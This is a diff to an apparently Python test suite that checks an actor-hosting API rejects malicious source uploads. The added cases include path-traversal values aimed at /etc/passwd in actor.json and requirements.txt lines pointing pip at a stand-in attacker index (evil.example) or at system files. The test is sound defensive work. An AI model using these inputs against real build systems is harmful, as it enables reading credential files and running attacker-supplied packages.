@@ -260,6 +260,14 @@ async def test_bad_actor_updates_change_nothing(user, actors_app):
             {"versions": [{**good_version, "sourceFiles": [{"name": "main.py", "content": 5}]}]},
             {"versions": [{**good_version, "sourceFiles": [{"name": "../../etc/passwd", "content": "x"}]}]},
             {"versions": [{**good_version, "sourceFiles": [{"name": "main.py", "content": "x", "format": "ZIP"}]}]},
+            # Paths in actor.json that leave the actor, and pip options the host's pip would follow.
+            *({"versions": [{**good_version, "sourceFiles": [
+                {"name": "main.py", "content": "x"},
+                {"name": ".actor/actor.json", "content": json.dumps({key: path})}]}]}
+              for key in ("dockerfile", "input") for path in ("../../../etc/passwd", "/etc/passwd")),
+            *({"versions": [{**good_version, "sourceFiles": [
+                {"name": "main.py", "content": "x"}, {"name": "requirements.txt", "content": f"six\n{line}\n"}]}]}
+              for line in ("--index-url https://evil.example/simple", "-r /etc/passwd", "-e /tmp/x")),
         ):
             assert_error(await user.put("/actors/kept", json=body), 400)
         assert_error(await user.post("/actors/kept/versions", json={"versionNumber": 1, "sourceFiles": []}), 400)
